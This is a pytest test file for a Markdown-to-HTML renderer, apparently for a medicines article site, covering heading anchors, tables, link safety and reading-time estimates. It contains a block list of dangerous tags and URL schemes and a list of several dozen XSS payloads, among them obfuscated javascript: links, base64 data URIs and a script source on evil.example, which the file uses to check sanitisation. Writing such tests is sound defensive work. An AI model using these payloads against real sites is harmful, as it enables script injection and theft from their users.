"""Markdown bodies become safe HTML with anchored headings; reading time follows word count."""

import pytest

from articles.markdown import Heading, reading_minutes, render_markdown

# Tags, attributes and URL schemes that must never reach a reader's browser.
FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "javascript:",
    "vbscript:",
    "<iframe",
    "<svg",
    "<math",
    "<style",
    "<object",
    "<embed",
    "<form",
    "<base",
    "<meta",
    "<link",
    "data:text/html",
    "srcdoc",
    "formaction",
]

# Well-known payloads (OWASP XSS filter evasion cheat sheet and the like), as an editor could
# type them into a body: raw HTML, Markdown links and images, obfuscated schemes.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<IMG SRC=x ONERROR="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<p style="background-image: url(javascript:alert(1))">styled</p>',
    "<p onclick=\"alert('x')\">Click me</p>",
    '<a href="#" onmouseover="alert(1)">hover</a>',
    '<h2 onfocus="alert(1)" tabindex="0">Heading</h2>',
    "<body onload=alert(1)>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](  javascript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    "![picture](javascript:alert(1))",
    "[ref link][evil]\n\n[evil]: javascript:alert(1)",
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="jav&#x09;ascript:alert(1)">entity tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="jav\tascript:alert(1)">raw tab</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">Go</button>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<<script>script>alert(1)<</script>/script>",
    "<!--><script>alert(1)</script>-->",
    "```\n</code><script>alert(1)</script>\n```",
]


def html(text: str) -> str:
    return render_markdown(text).html


def test_level_two_headings_get_anchors():
    assert '<h2 id="side-effects">Side effects</h2>' in html("## Side effects")


def test_level_three_headings_get_anchors():
    assert '<h3 id="with-food">With food</h3>' in html("### With food")


def test_a_single_hash_becomes_h2_because_the_title_is_the_only_h1():
    output = html("# Dosing")
    assert "<h1" not in output
    assert '<h2 id="dosing">Dosing</h2>' in output


def test_levels_below_h4_fold_into_h4_rather_than_vanish():
    assert '<h4 id="fine-print">Fine print</h4>' in html("###### Fine print")


def test_headings_make_the_outline_for_the_table_of_contents():
    rendered = render_markdown("## Uses\n\ntext\n\n### In children\n\ntext\n\n## Risks & benefits")
    assert rendered.headings == [
        Heading(level=2, anchor="uses", title="Uses"),
        Heading(level=3, anchor="in-children", title="In children"),
        Heading(level=2, anchor="risks-benefits", title="Risks & benefits"),
    ]


def test_repeated_headings_get_distinct_anchors():
    anchors = [h.anchor for h in render_markdown("## Tips\n\n## Tips").headings]
    assert len(set(anchors)) == 2


def test_tables_render():
    output = html("| Day | Dose |\n|---|---|\n| 1 to 3 | 5 mg |")
    for tag in ["<table>", "<thead>", "<th>Day</th>", "<tbody>", "<td>5 mg</td>"]:
        assert tag in output


def test_bulleted_and_numbered_lists_render():
    output = html("- one\n- two\n\n1. first\n2. second")
    assert "<ul>\n<li>one</li>" in output
    assert "<ol>\n<li>first</li>" in output


def test_emphasis_renders():
    assert "<strong>never</strong>" in html("**never**")


def test_links_keep_their_address_and_get_safe_rel():
    output = html("[NHS](https://www.nhs.uk/medicines/baclofen/)")
    assert 'href="https://www.nhs.uk/medicines/baclofen/"' in output
    assert 'rel="noopener noreferrer nofollow"' in output


def test_reference_style_links_render():
    output = html("See [the label][label].\n\n[label]: https://dailymed.nlm.nih.gov/")
    assert 'href="https://dailymed.nlm.nih.gov/"' in output


def test_a_link_written_with_rel_gets_the_safe_rel_instead():
    output = html('<a href="https://example.org/" rel="opener">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in output
    assert 'rel="opener"' not in output


def test_text_that_looks_like_markup_is_escaped():
    assert "<p>5 mg &lt; 10 mg &amp; more</p>" in html("5 mg < 10 mg & more")


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_never_survives(payload):
    for context in [payload, f"## Heading\n\n{payload}\n\nAfter.", f"- item {payload}"]:
        output = html(context).lower()
        survivors = [marker for marker in FORBIDDEN if marker in output]
        assert not survivors, f"{survivors} survived in {output!r}"


def test_there_are_enough_payloads_to_mean_something():
    assert len(XSS_PAYLOADS) >= 15


def test_heading_titles_in_the_outline_are_plain_text():
    [heading] = render_markdown("## Dosing *with* food & drink").headings
    assert heading.title == "Dosing with food & drink"
    assert heading.anchor == "dosing-with-food-drink"


@pytest.mark.parametrize(
    ("words", "minutes"),
    [(0, 1), (1, 1), (200, 1), (400, 2), (1000, 5), (2000, 10)],
)
def test_reading_time_is_about_200_words_a_minute(words, minutes):
    assert reading_minutes(" ".join(["word"] * words)) == minutes


def test_empty_body_reads_in_one_minute():
    assert reading_minutes("") == 1


def test_markdown_syntax_does_not_count_as_words():
    assert reading_minutes("## " + "| word " * 1000) == reading_minutes("word " * 1000)
